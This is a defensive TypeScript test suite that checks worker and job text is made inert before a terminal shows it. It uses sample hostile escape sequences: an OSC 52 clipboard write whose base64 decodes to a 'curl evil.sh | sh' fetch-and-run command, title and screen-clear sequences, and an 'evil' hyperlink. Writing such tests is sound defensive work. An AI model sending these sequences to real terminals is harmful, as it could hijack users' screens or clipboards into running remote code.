// Worker text made safe for a terminal: what a hostile worker or job would print to take over the
// renter's terminal (clear it, set its title, write its clipboard, forge a line) comes out as
// visible escapes; what a program prints on purpose (colours, `\r` progress bars) stays.
import assert from 'node:assert/strict';
import { shownJob, shownOffer } from '../../src/extension/views/format';
import { LogText, visibleLines, visibleLog, visibleText } from '../../src/shared/terminal-text';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const TITLE = '\x1b]0;pwned\x1b\\';
const CLEAR = '\x1b[2J\x1b[H';
const C1_CSI = '\u009b31m';

/** A terminal acts on none of it: no ESC, no BEL, no C1 control left. */
function inert(s: string): void {
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(s, /[\x00-\x08\x0b-\x1f\x7f-\x9f]/, JSON.stringify(s));
}

describe('terminal text', () => {
  it('shows every control character of a field as an escape', () => {
    const name = `gpu${OSC52}${TITLE}${CLEAR}${C1_CSI}\r\n\tok`;
    const v = visibleText(name);
    inert(v);
    assert.doesNotMatch(v, /[\n\t]/);
    assert.equal(visibleText('\x1b[32mjob x succeeded\x1b[0m'), '\\x1b[32mjob x succeeded\\x1b[0m');
    assert.equal(visibleText('a\u202eb'), 'a\\u202eb', 'a bidi override is shown, not obeyed');
    assert.equal(visibleText('\u200bH100'), '\\u200bH100');
    assert.equal(visibleText('NVIDIA H100 80GB HBM3 — ünïcode'), 'NVIDIA H100 80GB HBM3 — ünïcode', 'plain text is untouched');
  });

  it('keeps the lines and tabs of a notice, and nothing else', () => {
    assert.equal(visibleLines('pip failed:\n\tno such package\x1b[2J'), 'pip failed:\n\tno such package\\x1b[2J');
    assert.equal(visibleLines('half\rforged'), 'half\\x0dforged', 'a \\r cannot overwrite the start of a line');
  });

  it('keeps a log\'s SGR colours and \\r, and shows every other sequence', () => {
    assert.equal(visibleLog('\x1b[1;31merror\x1b[0m 50%\r100%\n'), '\x1b[1;31merror\x1b[0m 50%\r100%\n');
    assert.equal(visibleLog('\x1b[38;2;255;0;0mred\x1b[m'), '\x1b[38;2;255;0;0mred\x1b[m');
    for (const bad of [OSC52, TITLE, CLEAR, C1_CSI, '\x1bc', '\x1b[?1049h', '\x07', '\x1bP1$qm\x1b\\', '\x1b]8;;http://evil\x07link\x1b]8;;\x07']) inert(visibleLog(bad));
    assert.equal(visibleLog(CLEAR), '\\x1b[2J\\x1b[H');
    assert.equal(visibleLog('emoji 👨‍👩‍👧 and שלום'), 'emoji 👨‍👩‍👧 and שלום', 'a program\'s own Unicode is its text');
  });

  it('keeps an SGR sequence cut between two chunks whole, and shows a cut OSC as escapes', () => {
    const t = new LogText();
    assert.equal(t.write('loss \x1b[3'), 'loss ');
    assert.equal(t.write('2m0.5\x1b[0m\n'), '\x1b[32m0.5\x1b[0m\n');
    assert.equal(t.write('\x1b'), '');
    assert.equal(t.write(']52;c;abc\x07'), '\\x1b]52;c;abc\\x07');
    assert.equal(t.write('tail\x1b['), 'tail');
    assert.equal(t.end(), '\\x1b[');
    assert.equal(t.end(), '');
  });

  it('gives the extension\'s views offers and jobs whose worker text is inert', () => {
    const offer = shownOffer({
      workerId: 'wrk_aaaaaaaa', workerName: `evil${TITLE}`, gpuModel: `H100${CLEAR}`, isGpu: true, vramMiB: 1, total: 1, free: 1, pricePerHour: 1, reliability: 1, online: true,
      stack: { python: '3.11\u202e', torch: null, cuda: '12\x1b[2J', kernels: true, driver: '550\x07' },
    });
    for (const v of [offer.workerName, offer.gpuModel, offer.stack!.python, offer.stack!.cuda!, offer.stack!.driver!]) inert(v);
    assert.equal(offer.stack!.python, '3.11\\u202e');
    const job = shownJob({ id: 'job_aaaaaaaa', kind: 'job', leaseId: 'lease_aaaaaaaa', workerId: 'wrk_aaaaaaaa', entry: 'a.py', status: 'failed', createdAt: 1, startedAt: 1, endedAt: 2, exitCode: 1, reason: `oom\n${OSC52}`, lastSeq: 3 });
    assert.equal(job.reason, 'oom\n\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
  });
});
